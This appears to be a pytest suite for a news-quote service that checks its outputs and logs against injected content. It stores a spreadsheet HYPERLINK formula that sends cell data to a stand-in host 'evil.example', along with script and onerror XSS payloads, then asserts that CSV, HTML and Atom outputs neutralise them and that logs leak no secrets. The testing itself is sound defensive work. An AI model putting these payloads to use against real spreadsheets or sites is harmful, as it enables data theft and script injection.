"""Hostile words in every field of the corpus come out of every operation, and of the logs, as words or not at all."""

from __future__ import annotations

import csv
import io
import json
import logging
import logging.config
from collections.abc import Callable
from xml.etree import ElementTree

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import text

from extractors.model import Article, Kind, Speaker, SpeakerType
from service import corrections, logs
from service.api.formats import MIMETYPES
from service.api.resources import of_app
from service.store.articles.writing import write_article
from service.store.database.engine import Database
from service.store.people.keys import Scope, create_key

from .corpus import quote
from .operations import READS

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>]]>&amp;\u202e"


@pytest.fixture(params=[FORMULA, MARKUP, "@SUM(1)", "\t=1"], ids=["formula", "markup", "at", "tab"])
def poisoned(request: pytest.FixtureRequest, make_app: Callable[..., Flask]) -> tuple[FlaskClient, str]:
    """A client over two articles whose every field holds hostile words."""
    words = request.param
    speaker = Speaker(words, "evil", SpeakerType.PERSON, (words + " II",), (words,))
    app = make_app()
    for number in range(2):
        article = Article(
            f"{words} said Eve.\n",
            id=f"{words}{number}",
            outlet=f"{words}{number}",
            title=words,
            url=f"https://a.example/?{number}{words.strip()}",
            byline=words,
            wire=words,
            language=words[:30],
        )
        found = quote(article, Kind.DIRECT, [words.strip()], "said", "Eve", speaker)
        with of_app(app).database.writing() as session:
            write_article(session, article, [found], extractor="test")
    decide(of_app(app).database, words)
    return app.test_client(), words


def decide(database: Database, words: str) -> None:
    """A decision about a speaker in hostile words, by somebody of a hostile name."""
    corrections.alias(database, "evil", words + " III", by=words, why=words)


CSVS = [path for path, each in READS.items() if "text/csv" in each["responses"]["200"]["content"]]


@pytest.mark.parametrize("path", CSVS)
def test_outputs_no_cell_of_any_table_is_a_formula(poisoned: tuple[FlaskClient, str], path: str) -> None:
    client, words = poisoned
    lines = client.get(f"{path}.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(lines)))
    assert len(rows) > 1
    assert {len(row) for row in rows} == {len(rows[0])}
    assert words.strip()[:8] in lines
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), cell


def test_outputs_stored_markup_is_words_in_every_output(poisoned: tuple[FlaskClient, str]) -> None:
    client, words = poisoned
    item = client.get("/quotes").json["items"][0]
    ids = {
        "quote_id": item["id"],
        "article_id": item["article"]["id"],
        "slug": "evil",
        "outlet": item["article"]["outlet"],
    }
    for path, operation in READS.items():
        for name, value in ids.items():
            path = path.replace(f"{{{name}}}", value)
        if "{" in path or path == "/jobs":
            continue
        for mimetype in [*operation["responses"]["200"]["content"], "text/html"]:
            response = client.get(path, headers={"Accept": mimetype})
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            if response.status_code != 200:
                assert mimetype == "text/html", (path, mimetype)
                continue
            written = response.get_data(as_text=True)
            if response.mimetype == MIMETYPES["atom"]:
                assert words.strip() in "".join(ElementTree.fromstring(written).itertext())
            if response.mimetype in (MIMETYPES["json"], MIMETYPES["jsonld"]):
                json.loads(written)
            if response.mimetype in ("text/html", MIMETYPES["atom"]):
                assert "<script>alert" not in written, (path, mimetype)
                assert "<img src=x" not in written
            else:
                assert "html" not in response.mimetype


SECRET = "Zanzibar marmalade"


def test_outputs_logs_hold_no_word_of_an_article_whatever_breaks(
    make_app: Callable[..., Flask], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    app = make_app()
    with of_app(app).database.writing() as session:
        token = create_key(session, "desk", Scope.WRITE)

    def refused(_: object, article: Article, *__: object, **___: object) -> None:
        with of_app(app).database.writing() as session:
            session.execute(text("INSERT INTO nowhere VALUES (:words)"), {"words": article.text})

    def broken(_: object, article: Article, *__: object, **___: object) -> None:
        raise ValueError(f"cannot read {article.text}") from KeyError(article.text)

    before = logging.root.handlers[:], logging.root.level
    try:
        logging.config.dictConfig(logs.configuration("debug"))
        for failing in (refused, broken):
            monkeypatch.setattr("service.extraction.Extraction.ingest", failing)
            monkeypatch.setattr("service.extraction.Extraction.extract", failing)
            for path in ("/articles", "/extract"):
                body = {"text": SECRET} if path == "/extract" else {"text": SECRET, "outlet": SECRET, "title": SECRET}
                headers = {"Authorization": f"Bearer {token}"}
                response = app.test_client().post(path, json=body, headers=headers)
                assert response.status_code in (500, 503)
                assert SECRET not in response.get_data(as_text=True)
        app.test_client().get(
            f"/quotes?q={SECRET}", headers={"Authorization": f"Bearer {token[:-1]}", "Cookie": SECRET}
        )
    finally:
        logging.root.handlers[:], level = before
        logging.root.setLevel(level)
    written = capsys.readouterr().err
    assert "ValueError" in written
    assert "KeyError" in written
    for secret in (SECRET, SECRET.split()[0], token, token.split("_", 2)[2]):
        assert secret not in written
